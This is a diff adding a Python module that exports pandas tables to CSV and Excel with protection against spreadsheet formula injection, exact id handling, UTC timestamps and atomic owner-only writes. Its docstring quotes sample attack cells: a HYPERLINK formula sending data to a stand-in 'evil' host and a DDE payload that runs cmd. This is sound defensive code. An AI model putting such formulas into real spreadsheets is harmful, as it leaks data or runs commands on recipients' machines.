@@ -1,0 +1,381 @@
+"""Spreadsheets that are safe to open: no formula injection, ids kept exact.
+
+Usernames, bios and comments are written by the people we investigate. A cell
+such as ``=HYPERLINK("http://evil/?"&A1)`` or ``@SUM(1+1)*cmd|' /C calc'!A0``
+becomes a live formula when a partner opens our CSV in a spreadsheet. Every
+text cell that starts with ``= + - @``, a tab or a carriage return (also after
+leading whitespace or invisible format characters) is therefore prefixed with
+a single quote ``'``, as the OWASP CSV-injection guidance advises.
+
+Choices, so that readers know what they are looking at:
+
+* The rule is about *text* cells. A text cell ``"-5"`` is neutralised to
+  ``"'-5"`` because it is text (a username can be ``-5``); a numeric column
+  holding -5 is written as the number -5 and left alone.
+* Ids stay strings. Columns with id names (``account_id``, ``*_id``,
+  ``account_a``, ...) and integer columns too large for a spreadsheet's
+  floats (> 2**53) are written as text, so 19-digit ids and leading zeros
+  survive. In Excel they are text cells (type ``s``, number format ``@``).
+* Timestamps are UTC: ISO 8601 strings ending in ``Z`` in CSV, tz-naive
+  UTC datetimes in Excel with `` (UTC)`` appended to the column header.
+  tz-naive input timestamps are taken to be UTC already (the project rule).
+* Files are written to a temporary file in the target folder, then moved
+  into place with :func:`os.replace`: a failed export leaves no half file.
+  The file is created readable by its owner only (mode 0600), since it
+  holds personal data.
+
+Examples
+--------
+>>> neutralise_text(["=1+1", "alice", "  @cmd", "-5", None])
+["'=1+1", 'alice', "'  @cmd", "'-5", None]
+"""
+
+from __future__ import annotations
+
+import contextlib
+import math
+import os
+import re
+import tempfile
+from collections.abc import Iterable, Iterator, Mapping, Sequence
+from pathlib import Path
+
+import pandas as pd
+
+from tsinvest.exceptions import ParameterError
+
+__all__ = [
+    "DANGEROUS_PREFIXES",
+    "is_dangerous",
+    "neutralise_text",
+    "safe_frame",
+    "to_safe_csv",
+    "to_safe_excel",
+]
+
+#: First characters that make a spreadsheet treat a cell as a formula (OWASP).
+DANGEROUS_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
+
+# Whitespace and invisible format characters a spreadsheet may skip before the
+# formula marker; they must not hide a dangerous first character.
+_IGNORABLE = r"\s\u00ad\u061c\u180e\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u206f\ufeff"
+_DANGEROUS_RE = re.compile(f"^[{_IGNORABLE}]*[=+\\-@\\t\\r]")
+# Characters XML 1.0 (and so .xlsx) cannot store; openpyxl refuses them.
+_XML_ILLEGAL_RE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
+_EXCEL_MAX_CELL = 32767
+_TRUNCATED = "…[truncated]"
+_SHEET_FORBIDDEN = set("[]:*?/\\")
+_MAX_SAFE_INTEGER = 2**53 - 1
+
+
+def is_dangerous(text: str) -> bool:
+    """Whether a text cell would be read as a formula by a spreadsheet.
+
+    Examples
+    --------
+    >>> is_dangerous("=cmd"), is_dangerous(" \\u200b+1"), is_dangerous("a=b"), is_dangerous("'=1")
+    (True, True, False, False)
+    """
+    return bool(_DANGEROUS_RE.match(text))
+
+
+def neutralise_text(values: Iterable[object]) -> list[object]:
+    """Prefix ``'`` to every dangerous string; other values come back unchanged.
+
+    Examples
+    --------
+    >>> neutralise_text(["+44 20 7946 0000", "ok", 3])
+    ["'+44 20 7946 0000", 'ok', 3]
+    """
+    match = _DANGEROUS_RE.match
+    return ["'" + value if isinstance(value, str) and match(value) else value for value in values]
+
+
+def _id_names() -> set[str]:
+    from tsinvest.schemas import TABLES
+
+    names = {"id", "account_a", "account_b", "ip", "device_id"}
+    for spec in TABLES.values():
+        names.update(spec.id_columns)
+    return names
+
+
+def _is_id_column(name: object, id_columns: Sequence[str] | None) -> bool:
+    if id_columns is not None:
+        return name in id_columns
+    return isinstance(name, str) and (name in _id_names() or name.endswith("_id"))
+
+
+def _text_values(column: pd.Series, *, excel: bool) -> list[object]:
+    values = [None if _is_missing(value) else str(value) for value in column.astype(object).tolist()]
+    if excel:
+        values = [_excel_text(value) if value is not None else None for value in values]
+    return neutralise_text(values)
+
+
+def _excel_text(text: str) -> str:
+    text = _XML_ILLEGAL_RE.sub("\ufffd", text)
+    if len(text) > _EXCEL_MAX_CELL:
+        text = text[: _EXCEL_MAX_CELL - len(_TRUNCATED)] + _TRUNCATED
+    return text
+
+
+def _is_missing(value: object) -> bool:
+    if value is None or value is pd.NA or value is pd.NaT:
+        return True
+    return isinstance(value, float) and math.isnan(value)
+
+
+def _prepare(frame: pd.DataFrame, *, id_columns: Sequence[str] | None, excel: bool):
+    """Column-wise conversion shared by CSV and Excel.
+
+    Returns (headers, columns, kinds) where kinds[i] is "text", "number",
+    "bool" or "datetime".
+    """
+    if not isinstance(frame, pd.DataFrame):
+        raise ParameterError("expected a pandas DataFrame")
+    headers: list[str] = []
+    columns: list[list[object]] = []
+    kinds: list[str] = []
+    for position, name in enumerate(frame.columns):
+        column = frame.iloc[:, position]
+        header = str(name)
+        dtype = column.dtype
+        if pd.api.types.is_bool_dtype(dtype) and not _is_id_column(name, id_columns):
+            values = [None if _is_missing(value) else bool(value) for value in column.astype(object).tolist()]
+            kind = "bool"
+        elif pd.api.types.is_datetime64_any_dtype(dtype):
+            utc = column.dt.tz_localize("UTC") if column.dt.tz is None else column.dt.tz_convert("UTC")
+            if excel:
+                naive = utc.dt.tz_localize(None).astype(object).tolist()
+                values = [None if _is_missing(value) else value.to_pydatetime() for value in naive]
+                header = f"{header} (UTC)"
+                kind = "datetime"
+            else:
+                present = utc.dropna()
+                has_fraction = bool(((present.dt.microsecond != 0) | (present.dt.nanosecond != 0)).any())
+                pattern = "%Y-%m-%dT%H:%M:%S.%fZ" if has_fraction else "%Y-%m-%dT%H:%M:%SZ"
+                values = [None if _is_missing(value) else value for value in utc.dt.strftime(pattern).astype(object)]
+                kind = "text"
+        elif pd.api.types.is_numeric_dtype(dtype) and not pd.api.types.is_bool_dtype(dtype):
+            raw = column.astype(object).tolist()
+            too_big = pd.api.types.is_integer_dtype(dtype) and any(
+                not _is_missing(value) and abs(int(value)) > _MAX_SAFE_INTEGER for value in raw
+            )
+            if _is_id_column(name, id_columns) or too_big:
+                # Integer ids: str(int) keeps every digit; a float id has already lost them.
+                values = _text_values(column, excel=excel)
+                kind = "text"
+            else:
+                values = [_number(value) for value in raw]
+                kind = "number"
+        else:
+            values = _text_values(column, excel=excel)
+            kind = "text"
+        headers.append(header)
+        columns.append(values)
+        kinds.append(kind)
+    header_texts = neutralise_text(_excel_text(h) if excel else h for h in headers)
+    return header_texts, columns, kinds
+
+
+def _number(value: object) -> object:
+    if _is_missing(value):
+        return None
+    if isinstance(value, float) and math.isinf(value):
+        # Spreadsheets have no infinity; as text it is neutralised like any other.
+        return neutralise_text(["inf" if value > 0 else "-inf"])[0]
+    return value.item() if hasattr(value, "item") else value
+
+
+def safe_frame(frame: pd.DataFrame, *, id_columns: Sequence[str] | None = None) -> pd.DataFrame:
+    """The frame as it will be written to CSV: text neutralised, numbers kept, times as ISO UTC.
+
+    Parameters
+    ----------
+    frame : DataFrame
+        Table to share; not modified. The index is dropped (reset it first to keep it).
+    id_columns : sequence of str, optional
+        Columns to write as text even when numeric. Default: columns named
+        like ids (``account_id``, ``*_id``, ``account_a``, ...).
+
+    Returns
+    -------
+    DataFrame
+        Object columns for text, the original numbers for numeric columns.
+
+    Examples
+    --------
+    >>> frame = pd.DataFrame({"username": ["=evil()", "bob"], "score": [-5, 2],
+    ...                       "ts": pd.to_datetime(["2024-05-01 12:00", None], utc=True)})
+    >>> safe_frame(frame).to_dict("list")
+    {'username': ["'=evil()", 'bob'], 'score': [-5, 2], 'ts': ['2024-05-01T12:00:00Z', None]}
+    """
+    headers, columns, kinds = _prepare(frame, id_columns=id_columns, excel=False)
+    parts = []
+    for position, (values, kind) in enumerate(zip(columns, kinds)):
+        if kind == "number" and not any(isinstance(value, str) for value in values):
+            # The original numeric dtype, so the CSV shows 2 and not 2.0.
+            parts.append(frame.iloc[:, position].reset_index(drop=True))
+        else:
+            parts.append(pd.Series(values, dtype=object))
+    result = pd.concat(parts, axis=1, ignore_index=True) if parts else pd.DataFrame(index=pd.RangeIndex(len(frame)))
+    result.columns = headers
+    return result
+
+
+@contextlib.contextmanager
+def _atomic_path(path: str | os.PathLike, suffix: str) -> Iterator[Path]:
+    """Yield a temporary path next to ``path``; move it into place only on success."""
+    target = Path(path)
+    target.parent.mkdir(parents=True, exist_ok=True)
+    handle, temporary = tempfile.mkstemp(prefix=f".{target.name}.", suffix=suffix, dir=target.parent)
+    os.close(handle)
+    try:
+        yield Path(temporary)
+        os.replace(temporary, target)
+    except BaseException:
+        with contextlib.suppress(FileNotFoundError):
+            os.unlink(temporary)
+        raise
+
+
+def to_safe_csv(
+    frame: pd.DataFrame,
+    path: str | os.PathLike,
+    *,
+    id_columns: Sequence[str] | None = None,
+    encoding: str = "utf-8-sig",
+) -> Path:
+    """Write a CSV that a spreadsheet opens without running any formula.
+
+    Parameters
+    ----------
+    frame : DataFrame
+        Table to share (the index is not written).
+    path : path-like
+        Target file; written atomically.
+    id_columns : sequence of str, optional
+        Columns to write as text even when numeric; see :func:`safe_frame`.
+    encoding : str, default "utf-8-sig"
+        The byte-order mark makes Excel read non-ASCII usernames correctly.
+
+    Returns
+    -------
+    Path
+        The written file.
+
+    Notes
+    -----
+    Rows end in CRLF (RFC 4180) so that a lone carriage return inside a cell
+    is quoted and cannot split a row. CSV has no cell types: a spreadsheet
+    may still show a long id column as a number when it guesses types; open
+    the CSV with "import as text" or share the Excel export instead.
+
+    Examples
+    --------
+    >>> import tempfile, pathlib
+    >>> out = to_safe_csv(pd.DataFrame({"account_id": ["0012345678901234567"], "bio": ["@SUM(A1)"]}),
+    ...                   pathlib.Path(tempfile.mkdtemp()) / "share.csv")
+    >>> out.read_text(encoding="utf-8-sig").splitlines()
+    ['account_id,bio', "0012345678901234567,'@SUM(A1)"]
+    """
+    prepared = safe_frame(frame, id_columns=id_columns)
+    with _atomic_path(path, ".csv.tmp") as temporary:
+        prepared.to_csv(temporary, index=False, encoding=encoding, lineterminator="\r\n")
+    return Path(path)
+
+
+def _check_sheet_names(names: Sequence[object]) -> None:
+    problems = []
+    seen: set[str] = set()
+    for position, name in enumerate(names, start=1):
+        if not isinstance(name, str) or not name.strip():
+            problems.append(f"sheet {position}: name must be a non-empty string")
+            continue
+        if len(name) > 31:
+            problems.append(f"sheet {position}: name longer than 31 characters")
+        if _SHEET_FORBIDDEN & set(name) or name.startswith("'") or name.endswith("'"):
+            problems.append(f"sheet {position}: name contains one of []:*?/\\ or starts/ends with a quote")
+        if name.casefold() in seen:
+            problems.append(f"sheet {position}: name repeats an earlier one (Excel ignores case)")
+        seen.add(name.casefold())
+    if problems:
+        raise ParameterError("to_safe_excel: invalid sheet names: " + "; ".join(problems))
+
+
+def to_safe_excel(
+    frames_by_sheet_name: Mapping[str, pd.DataFrame],
+    path: str | os.PathLike,
+    *,
+    id_columns: Sequence[str] | None = None,
+) -> Path:
+    """Write one .xlsx with a sheet per frame: text cells only, never formulas.
+
+    Parameters
+    ----------
+    frames_by_sheet_name : mapping of str -> DataFrame
+        Sheet name (Excel rules: at most 31 characters, none of ``[]:*?/\\``)
+        to table. Order is kept.
+    path : path-like
+        Target ``.xlsx`` file; written atomically.
+    id_columns : sequence of str, optional
+        Columns to write as text even when numeric; see :func:`safe_frame`.
+
+    Returns
+    -------
+    Path
+        The written file.
+
+    Notes
+    -----
+    Every text cell is written with type ``s`` and number format ``@``, set
+    explicitly after the value, because openpyxl would otherwise store a
+    string starting with ``=`` as a formula and ``#N/A`` as an error value.
+    Characters XML cannot hold (most ASCII control characters) become U+FFFD
+    and cells over Excel's 32 767-character limit are truncated with a marker.
+
+    Examples
+    --------
+    >>> import tempfile, pathlib, openpyxl
+    >>> out = to_safe_excel({"accounts": pd.DataFrame({"account_id": ["1234567890123456789"],
+    ...                                                  "username": ["=1+1"], "followers": [12]})},
+    ...                     pathlib.Path(tempfile.mkdtemp()) / "share.xlsx")
+    >>> sheet = openpyxl.load_workbook(out)["accounts"]
+    >>> [(cell.value, cell.data_type) for cell in sheet[2]]
+    [('1234567890123456789', 's'), ("'=1+1", 's'), (12, 'n')]
+    """
+    from openpyxl import Workbook
+    from openpyxl.cell import WriteOnlyCell
+
+    if not frames_by_sheet_name:
+        raise ParameterError("to_safe_excel: frames_by_sheet_name is empty; pass at least one sheet")
+    _check_sheet_names(list(frames_by_sheet_name))
+    workbook = Workbook(write_only=True)
+    for sheet_name, frame in frames_by_sheet_name.items():
+        sheet = workbook.create_sheet(title=sheet_name)
+        headers, columns, kinds = _prepare(frame, id_columns=id_columns, excel=True)
+
+        def text_cell(value: str):
+            cell = WriteOnlyCell(sheet, value=value)
+            cell.data_type = "s"
+            cell.number_format = "@"
+            return cell
+
+        def cell_for(value: object, kind: str):
+            if value is None:
+                return None
+            if kind == "text" or isinstance(value, str):
+                return text_cell(value)
+            if kind == "datetime":
+                cell = WriteOnlyCell(sheet, value=value)
+                cell.number_format = "yyyy-mm-dd hh:mm:ss"
+                return cell
+            return value
+
+        sheet.append([text_cell(header) for header in headers])
+        for row in zip(*columns):
+            sheet.append([cell_for(value, kind) for value, kind in zip(row, kinds)])
+    with _atomic_path(path, ".xlsx.tmp") as temporary:
+        workbook.save(temporary)
+    return Path(path)
